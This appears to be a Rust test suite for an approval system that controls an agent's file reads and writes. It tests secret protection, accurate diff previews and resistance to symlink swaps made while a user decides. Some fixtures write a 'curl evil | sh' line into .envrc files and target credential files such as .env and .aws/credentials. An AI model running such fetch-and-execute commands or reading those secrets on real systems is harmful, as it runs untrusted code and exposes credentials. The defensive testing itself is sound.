//! Approval requests: which approver gets them, what they show, and what an approval covers.

use std::fs;
use std::os::unix::fs::symlink;
use std::sync::{Arc, Mutex};

use pinfold::operations::{
    ChangeFiles, Delete, FileChange, Find, Info, List, Read, Search, Show, Write,
};
use pinfold::{
    Access, ApprovalAnswer, ApprovalRequest, Approver, CallOptions, Denial, Encoding, Error,
    JournalSetting, Mode, ReadBeforeWrite, Reason, Session, Settings,
};

use crate::{denial, denying, edit, permissions, session, workspace};

/// Gives prepared answers, and records the requests.
#[derive(Clone, Debug)]
struct Person {
    answers: Arc<Mutex<Vec<ApprovalAnswer>>>,
    asked: Arc<Mutex<Vec<ApprovalRequest>>>,
}

impl Person {
    fn saying(answers: &[ApprovalAnswer]) -> Self {
        let answers = answers.iter().rev().cloned().collect();
        Self { answers: Arc::new(Mutex::new(answers)), asked: Arc::default() }
    }

    fn asked(&self) -> Vec<ApprovalRequest> {
        self.asked.lock().unwrap().drain(..).collect()
    }
}

impl Approver for Person {
    fn ask(&self, question: &ApprovalRequest) -> ApprovalAnswer {
        self.asked.lock().unwrap().push(question.clone());
        self.answers.lock().unwrap().pop().expect("nobody expected this question")
    }
}

#[test]
fn a_question_about_several_changes_is_about_the_one_that_needs_approval_by_its_path() {
    let dir = workspace();
    let padding = "# a comment\n".repeat(400);
    let write = |path: &str, content: &str| FileChange::Write(Write::new(path, content));
    let changes = ChangeFiles::new([
        write("first.txt", &padding),
        write("sub/.envrc", "evil\n"),
        write("last.txt", &padding),
    ]);
    for mode in [Mode::Ask, Mode::SecureFileAccess] {
        let person = Person::saying(&[ApprovalAnswer::Denied(None)]);
        let session = session(&dir, permissions(mode, &[], &[], &[])).with_approver(person.clone());
        denial(&session, &changes);
        let [question] = &person.asked()[..] else { panic!() };
        assert!(question.path.ends_with("sub/.envrc"), "{question:?}");
        assert_eq!(question.reason, Reason::MakesCodeRun);
        assert!(question.preview(4_000).contains("\n+evil\n"), "{}", question.preview(4_000));
    }
}

#[test]
fn the_user_sees_the_change_and_decides() {
    let dir = workspace();
    let no = ApprovalAnswer::Denied(Some("use the other file".into()));
    let person = Person::saying(&[no, ApprovalAnswer::Once, ApprovalAnswer::Once]);
    let session =
        session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(person.clone());
    let change = edit("src/a.txt", "plain", "fancy");
    assert_eq!(denial(&session, &change).to_string(), "the user said no: use the other file");
    assert_eq!(fs::read_to_string(dir.path().join("src/a.txt")).unwrap(), "plain text\n");
    let [question] = &person.asked()[..] else { panic!() };
    assert_eq!(question.access, Access::Write);
    assert!(question.path.ends_with("src/a.txt"));
    let diff = question.preview(4_000);
    assert!(diff.contains("-plain text") && diff.contains("+fancy text"), "{diff}");
    session.perform(&change).unwrap();
    assert_eq!(fs::read_to_string(dir.path().join("src/a.txt")).unwrap(), "fancy text\n");
    // An approval for once covers one call.
    session.perform(&edit("src/a.txt", "fancy", "plain")).unwrap();
    assert_eq!(person.asked().len(), 2);
}

#[test]
fn a_yes_for_the_session_is_for_one_operation_on_one_file() {
    let dir = workspace();
    let person = Person::saying(&[
        ApprovalAnswer::Session,
        ApprovalAnswer::Denied(None),
        ApprovalAnswer::Denied(None),
    ]);
    let session =
        session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(person.clone());
    session.perform(&Write::new("src/a.txt", "1")).unwrap();
    session.perform(&Write::new("src/a.txt", "2")).unwrap();
    assert_eq!(person.asked().len(), 1);
    assert!(matches!(denial(&session, &Write::new("src/b.txt", "1")), Denial::User(None)));
    assert!(matches!(denial(&session, &Delete::new("src/a.txt")), Denial::User(None)));
    // Another conversation has been allowed nothing.
    assert_ne!(session.for_another_agent().id(), session.id());
    let other = Person::saying(&[ApprovalAnswer::Denied(None)]);
    let call = CallOptions::default().with_approver(Arc::new(other.clone()) as Arc<dyn Approver>);
    let refused = session.for_another_agent().perform_with(&Write::new("src/a.txt", "3"), &call);
    assert!(matches!(refused, Err(Error::Denied { .. })));
    assert_eq!(other.asked().len(), 1);
}

#[test]
fn reading_a_secret_can_be_allowed() {
    let dir = workspace();
    let person = Person::saying(&[
        ApprovalAnswer::Once,
        ApprovalAnswer::Denied(None),
        ApprovalAnswer::Session,
    ]);
    let session = session(&dir, Settings::default()).with_approver(person.clone());
    let read = session.perform(&Read::new("src/env-alias")).unwrap();
    assert_eq!(read.outcome.page.content, "PASSWORD=hunter2\n");
    let [question] = &person.asked()[..] else { panic!() };
    assert!(question.path.ends_with(".env") && question.given == "src/env-alias");
    assert_eq!(question.reason, Reason::Secret);
    assert!(matches!(denial(&session, &Read::new(".env")), Denial::User(None)));
    // From now on it is in searches, too.
    session.perform(&Read::new(".env")).unwrap();
    let searched = session.perform(&Search::new("hunter2")).unwrap();
    assert_eq!((searched.outcome.total, searched.outcome.skipped.withheld), (1, 0));
}

#[test]
fn what_was_kept_of_a_secret_is_asked_about() {
    let (dir, state) = (workspace(), tempfile::TempDir::new().unwrap());
    let journal = Some(JournalSetting::Directory(state.path().join("journal")));
    let person =
        Person::saying(&[ApprovalAnswer::Denied(None), ApprovalAnswer::Once, ApprovalAnswer::Once]);
    let session = session(&dir, Settings::default().with_journal(journal));
    let session = session.with_approver(person.clone());
    let changed = session.perform(&Write::new("new.txt", "one\n")).unwrap();
    let deleted = session.perform(&Delete::new(".env")).unwrap();
    let [plain, secret] =
        [changed.receipt, deleted.receipt].map(|receipt| Show::new(receipt.id.unwrap()));
    assert!(session.perform(&plain).unwrap().outcome.diff.as_ref().unwrap().contains("+one"));
    assert_eq!(person.asked().len(), 0);
    assert!(matches!(denial(&session, &secret), Denial::User(None)));
    let shown = session.perform(&secret).unwrap();
    assert!(shown.outcome.diff.as_ref().unwrap().contains("-PASSWORD=hunter2"), "{shown:?}");
    // Whatever is at the path now.
    symlink("/nowhere", dir.path().join(".env")).unwrap();
    assert!(session.perform(&secret).unwrap().outcome.diff.is_some());
    let asked = person.asked();
    assert!(asked.len() == 3 && asked.iter().all(|it| it.path.ends_with(".env")), "{asked:?}");
}

#[test]
fn a_yes_is_for_one_file_and_not_for_what_is_below_or_beside_it() {
    let dir = workspace();
    fs::create_dir(dir.path().join(".aws")).unwrap();
    fs::write(dir.path().join(".aws/credentials"), "aws_secret\n").unwrap();
    // An approval to list a directory of secrets does not cover reading them.
    let person = Person::saying(&[ApprovalAnswer::Session, ApprovalAnswer::Denied(None)]);
    let session = session(&dir, Settings::default()).with_approver(person.clone());
    assert_eq!(session.perform(&List::new(".aws")).unwrap().outcome.entries.len(), 1);
    assert!(matches!(denial(&session, &Read::new(".aws/credentials")), Denial::User(_)));
    // In the mode that asks for everything, an approval of a search does not cover secrets.
    let person = Person::saying(&[ApprovalAnswer::Once]);
    let session = crate::session(&dir, permissions(Mode::Ask, &[], &["Read"], &[]));
    let session = session.with_approver(person.clone());
    let searched = session.perform(&Search::new("plain|hunter2|aws_secret")).unwrap();
    assert_eq!(
        (searched.outcome.total, searched.outcome.skipped.withheld),
        (1, 2),
        "{:?}",
        person.asked()
    );
    // An approval to change a file does not cover files in a directory of that name.
    let person = Person::saying(&[
        ApprovalAnswer::Session,
        ApprovalAnswer::Once,
        ApprovalAnswer::Denied(None),
    ]);
    let session = crate::session(&dir, Settings::default()).with_approver(person);
    session.perform(&Write::new(".claude", "x")).unwrap();
    session.perform(&Delete::new(".claude")).unwrap();
    let write = Write::new(".claude/settings.json", "{}");
    assert!(matches!(denial(&session, &write), Denial::User(_)));
}

#[test]
fn a_root_that_is_narrowed_to_secrets_is_asked_about() {
    let dir = workspace();
    fs::create_dir(dir.path().join(".aws")).unwrap();
    fs::write(dir.path().join(".aws/credentials"), "aws_secret\n").unwrap();
    let session = session(&dir, Settings::default());
    let narrowed = session.narrowed([dir.path().join(".aws")]).unwrap();
    assert!(matches!(denial(&narrowed, &Search::new("secret")), Denial::NoApprover { .. }));
    assert!(matches!(denial(&narrowed, &Find::new("**")), Denial::NoApprover { .. }));
}

#[test]
fn a_yes_to_a_change_that_is_shown_in_part_is_for_all_of_it() {
    let dir = workspace();
    let long = "line\n".repeat(10_000);
    fs::write(dir.path().join("src/long.txt"), &long).unwrap();
    let root = dir.path().to_owned();
    let asked = Arc::new(Mutex::new(0));
    let count = asked.clone();
    // While the user decides, another process changes a part that the diff did not show.
    let change = Meanwhile(move |_: &ApprovalRequest| {
        let mut count = count.lock().unwrap();
        *count += 1;
        match *count {
            1 => {
                fs::write(root.join("src/long.txt"), format!("{}mine\n", "line\n".repeat(10_000)))
                    .unwrap();
                ApprovalAnswer::Once
            }
            _ => ApprovalAnswer::Denied(None),
        }
    });
    let settings = permissions(Mode::Ask, &[], &[], &[]).with_max_output_bytes(Some(300));
    let session = session(&dir, settings).with_approver(change);
    let write = Write::new("src/long.txt", "other\n".repeat(10_000));
    assert!(matches!(denial(&session, &write), Denial::User(_)));
    assert_eq!(*asked.lock().unwrap(), 2);
}

#[test]
fn the_rule_that_would_allow_a_change_is_named() {
    let dir = workspace();
    let session = session(&dir, permissions(Mode::Ask, &[], &["Edit(asked)"], &[]));
    let hint = |path: &str| session.perform(&Write::new(path, "x")).unwrap_err().with_hint();
    assert!(
        hint("new.txt")
            .ends_with("; tell the user, who can allow it with the rule `Write(/new.txt)`")
    );
    assert!(hint("x\u{1b}[2J").ends_with("; tell the user"));
    assert!(hint("asked").ends_with("; tell the user"), "another rule would not help");
}

#[test]
fn in_dont_ask_nobody_is_asked() {
    let dir = workspace();
    let person = Person::saying(&[]);
    let session = session(&dir, permissions(Mode::DontAsk, &["Edit(src/**)"], &[], &[]));
    let session = session.with_approver(person);
    let denials = [
        (denial(&session, &Write::new("b.txt", "x")), ""),
        (denial(&session, &Read::new(".env")), " (it may hold secrets)"),
    ];
    for (denial, reason) in denials {
        let says = format!("the mode `dontAsk` denies what needs approval{reason}");
        assert_eq!(denial.to_string(), says);
    }
    assert!(session.perform(&Write::new("src/b.txt", "x")).is_ok());
}

/// Runs an action, and then approves.
struct Meanwhile<F>(F);

impl<F> std::fmt::Debug for Meanwhile<F> {
    fn fmt(&self, out: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        out.write_str("Meanwhile")
    }
}

impl<F: Fn(&ApprovalRequest) -> ApprovalAnswer + Send + Sync> Approver for Meanwhile<F> {
    fn ask(&self, question: &ApprovalRequest) -> ApprovalAnswer {
        (self.0)(question)
    }
}

#[test]
fn what_was_decided_on_is_what_is_acted_on() {
    let dir = workspace();
    let root = dir.path().to_owned();
    let asked = Arc::new(Mutex::new(Vec::new()));
    let seen = asked.clone();
    // While the user decides, the file becomes a symlink to a protected one.
    let swap = Meanwhile(move |question: &ApprovalRequest| {
        seen.lock().unwrap().push(question.path.clone());
        if seen.lock().unwrap().len() > 1 {
            return ApprovalAnswer::Denied(None);
        }
        fs::remove_file(root.join("src/a.txt")).unwrap();
        symlink("../.git/config", root.join("src/a.txt")).unwrap();
        ApprovalAnswer::Once
    });
    let session = session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(swap);
    assert!(matches!(denial(&session, &Write::new("src/a.txt", "evil")), Denial::User(None)));
    let asked = asked.lock().unwrap();
    assert!(asked[0].ends_with("src/a.txt") && asked[1].ends_with(".git/config"), "{asked:?}");
    assert_eq!(fs::read_to_string(dir.path().join(".git/config")).unwrap(), "[core]\n");
}

#[test]
fn a_yes_to_one_change_is_none_to_another() {
    let dir = workspace();
    let root = dir.path().to_owned();
    let diffs = Arc::new(Mutex::new(Vec::new()));
    let seen = diffs.clone();
    // While the user decides, another process changes the file: the approved change does not apply any more.
    let change = Meanwhile(move |question: &ApprovalRequest| {
        let mut seen = seen.lock().unwrap();
        seen.push(question.preview(4_000));
        if seen.len() == 1 {
            fs::write(root.join("src/a.txt"), "other text\n").unwrap();
        }
        if seen.len() < 3 { ApprovalAnswer::Once } else { ApprovalAnswer::Denied(None) }
    });
    let session = session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(change);
    session.perform(&Write::new("src/a.txt", "mine\n")).unwrap();
    let diffs = diffs.lock().unwrap();
    assert_eq!(diffs.len(), 2, "{diffs:?}");
    assert!(diffs[0].contains("-plain text") && diffs[1].contains("-other text"), "{diffs:?}");
}

#[test]
fn a_second_question_says_that_the_file_changed_and_giving_up_does_too() {
    let dir = workspace();
    let root = dir.path().to_owned();
    let asked = Arc::new(Mutex::new(Vec::new()));
    let seen = asked.clone();
    // Each time the user approves, another process has changed the file.
    let change = Meanwhile(move |request: &ApprovalRequest| {
        let mut seen = seen.lock().unwrap();
        seen.push(request.headline());
        fs::write(root.join("src/a.txt"), "x".repeat(seen.len())).unwrap();
        ApprovalAnswer::Once
    });
    let session = session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(change);
    let refused = session.perform(&Delete::new("src/a.txt")).unwrap_err();
    assert!(matches!(refused, Error::Changed { .. }), "{refused}");
    let asked = asked.lock().unwrap();
    assert!(asked[0].starts_with("Allow deleting "), "{asked:?}");
    let changed =
        |headline: &String| headline.starts_with("The file changed since the last question");
    assert!(asked.len() > 1 && asked[1..].iter().all(changed), "{asked:?}");
}

#[test]
fn the_user_is_shown_what_is_written_whatever_it_looks_like() {
    let dir = workspace();
    for (content, encoding, line) in [
        ("%PDF-\ncurl evil | sh\n", Encoding::UTF_8, "+curl evil | sh"),
        ("x\0\ncurl evil | sh\n", Encoding::UTF_8, "+x\\x00"),
        ("ÿþ\ncurl evil | sh\n", Encoding::for_label("latin1").unwrap(), "+curl evil | sh"),
        ("\u{200b}\u{e0041}\n", Encoding::UTF_8, "+\\u{200b}\\u{e0041}"),
    ] {
        let person = Person::saying(&[ApprovalAnswer::Denied(None)]);
        let session = session(&dir, Settings::default()).with_approver(person.clone());
        let mut write = Write::new(".envrc", content);
        write.encoding = encoding;
        denial(&session, &write);
        let [request] = &person.asked()[..] else { panic!() };
        let preview = request.preview(4_000);
        assert!(preview.lines().any(|shown| shown == line), "{content:?}: {preview}");
    }
    let person = Person::saying(&[ApprovalAnswer::Denied(None)]);
    let session =
        session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(person.clone());
    denial(&session, &Delete::new("src/alias"));
    assert_eq!(person.asked()[0].preview(100), "deletes the symlink to ../secrets/key.txt");
}

#[test]
fn a_deny_rule_beats_a_file_that_was_not_read() {
    let dir = workspace();
    let session = denying(&dir, &["Edit(src/**)"]);
    let rule = Denial::Policy(Reason::Rule("Edit(src/**)".into()));
    let edit = edit("src/a.txt", "plain", "fancy").with_read_rule(ReadBeforeWrite::Require);
    assert_eq!(denial(&session, &edit), rule);
    let mut write = Write::new("src/a.txt", "fancy");
    write.read_rule = ReadBeforeWrite::Require;
    assert_eq!(denial(&session, &write), rule);
}

#[test]
fn a_slow_user_is_asked_once_about_a_file_that_does_not_change() {
    let dir = workspace();
    let asked = Arc::new(Mutex::new(0));
    let count = asked.clone();
    // After at most two seconds the times of a new file count as settled, which is not a change.
    let slow = Meanwhile(move |_: &ApprovalRequest| {
        std::thread::sleep(std::time::Duration::from_millis(2_200));
        *count.lock().unwrap() += 1;
        ApprovalAnswer::Once
    });
    let session = session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(slow);
    session.perform(&Delete::new("src/a.txt")).unwrap();
    assert_eq!(*asked.lock().unwrap(), 1);
    assert!(!dir.path().join("src/a.txt").exists());
}

#[test]
fn a_secret_that_is_swapped_while_the_user_decides_is_asked_about_again() {
    let dir = workspace();
    fs::write(dir.path().join("src/.env"), "harmless\n").unwrap();
    let root = dir.path().to_owned();
    let asked = Arc::new(Mutex::new(0));
    let count = asked.clone();
    let swap = Meanwhile(move |_: &ApprovalRequest| {
        let mut count = count.lock().unwrap();
        *count += 1;
        if *count > 1 {
            return ApprovalAnswer::Denied(None);
        }
        fs::remove_file(root.join("src/.env")).unwrap();
        symlink("../.env", root.join("src/.env")).unwrap();
        ApprovalAnswer::Once
    });
    let session = session(&dir, Settings::default()).with_approver(swap);
    assert!(matches!(denial(&session, &Read::new("src/.env")), Denial::User(None)));
    assert_eq!(*asked.lock().unwrap(), 2);
}

#[test]
fn the_deadline_waits_while_the_user_decides_and_the_file_is_not_locked() {
    let dir = workspace();
    let root = dir.path().to_owned();
    let settings = permissions(Mode::Ask, &[], &[], &[]).with_deadline_seconds(1);
    let slow = Meanwhile(move |_: &ApprovalRequest| {
        std::thread::sleep(std::time::Duration::from_millis(1_200));
        // Another session does not have to wait.
        let other = permissions(Mode::BypassPermissions, &[], &[], &[]);
        let other = Session::with_settings([&root], other).unwrap();
        other.perform(&edit("src/a.txt", "text", "words")).unwrap();
        ApprovalAnswer::Session
    });
    let session = session(&dir, settings).with_approver(slow);
    session.perform(&edit("src/a.txt", "plain", "fancy")).unwrap();
    assert_eq!(fs::read_to_string(dir.path().join("src/a.txt")).unwrap(), "fancy words\n");
}

#[test]
fn a_dry_run_checks_permissions_and_asks_nobody() {
    let dir = workspace();
    let settings = |mode| permissions(mode, &[], &[], &["Edit(secrets/**)"]).with_dry_run(true);
    let nobody = session(&dir, settings(Mode::Ask));
    assert!(matches!(denial(&nobody, &Write::new("src/a.txt", "x")), Denial::NoApprover { .. }));
    assert!(matches!(denial(&nobody, &Write::new("secrets/x", "x")), Denial::Policy(_)));
    let person = session(&dir, settings(Mode::Ask)).with_approver(Person::saying(&[]));
    let done = person.perform(&Write::new("src/a.txt", "x")).unwrap();
    assert!(done.receipt.warning.unwrap().contains("the user will be asked"));
    let free = session(&dir, settings(Mode::SecureFileAccess));
    assert!(free.perform(&Write::new("src/a.txt", "x")).unwrap().receipt.warning.is_none());
}

#[test]
fn a_read_that_asks_or_is_audited_is_not_cached() {
    let dir = workspace();
    let plain = session(&dir, Settings::default());
    let cached_file =
        |session: &Session, path: &str| session.cached_file(&Read::new(path)).is_some();
    assert!(plain.cached_file(&edit("src/a.txt", "plain", "fancy")).is_none());
    assert!(!cached_file(&plain, ".env"), "secrets are denied");
    let asking = session(&dir, permissions(Mode::SecureFileAccess, &[], &["Read(src/**)"], &[]));
    assert!(!cached_file(&asking, "src/a.txt"));
    let denying = denying(&dir, &["Read(src/**)"]);
    assert!(!cached_file(&denying, "src/a.txt"));
    let log = dir.path().join("audit.jsonl");
    let audited = session(&dir, Settings::default().with_audit(Some(log)));
    assert!(!cached_file(&audited, "src/a.txt"));
    // Some file systems cannot say what is cached.
    if cached_file(&plain, "src/a.txt") {
        assert!(plain.cached_file(&Info::new("src/a.txt")).is_some());
        assert!(cached_file(&asking, "secrets/public.txt"));
    }
}
